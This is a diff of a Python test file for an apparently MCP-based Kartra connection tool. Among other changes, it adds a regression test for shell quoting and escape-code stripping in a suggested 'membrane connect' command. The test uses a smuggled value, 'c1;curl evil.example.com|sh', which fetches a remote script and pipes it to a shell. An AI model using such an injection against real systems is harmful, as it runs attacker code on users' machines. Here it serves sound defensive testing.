@@ -2,14 +2,22 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Mapping
 from typing import Any
 
 import pytest
 
-from kartra_mcp.connections import choose, is_kartra, read_connection, require_usable
+from kartra_mcp.connections import (
+    address_in,
+    choose,
+    is_kartra,
+    read_connection,
+    require_usable,
+)
 from kartra_mcp.errors import Refused
 from kartra_mcp.model import Connection
+from kartra_mcp.text import clean
 
 
 def connection(entry: Mapping[str, Any]) -> Connection:
@@ -215,3 +223,19 @@ def test_without_any_the_two_commands_that_make_one_are_told():
         choose([], None, None)
     assert "membrane search kartra --elementType=connector" in caught.value.remedy
     assert "membrane connect --connectorId=" in caught.value.remedy
+
+
+def test_an_id_in_a_command_to_paste_is_one_word_of_a_shell():
+    """An id was once put into the command as it came: `c1;curl …` would have been run."""
+    hostile = "c1;curl evil.example.com|sh\x1b[2J"
+    with pytest.raises(Refused) as caught:
+        require_usable(Connection(id=hostile, state="DISCONNECTED", usable=False))
+    command = caught.value.remedy.split("`")[3]
+    assert shlex.split(command) == ["membrane", "connect", f"--connectionId={clean(hostile)}"]
+    assert "\x1b" not in caught.value.remedy
+
+
+def test_colours_around_an_address_are_no_part_of_it():
+    assert address_in("Open \x1b[1;36mhttps://x.example.com/a?b=c\x1b[0m now.") == (
+        "https://x.example.com/a?b=c"
+    )
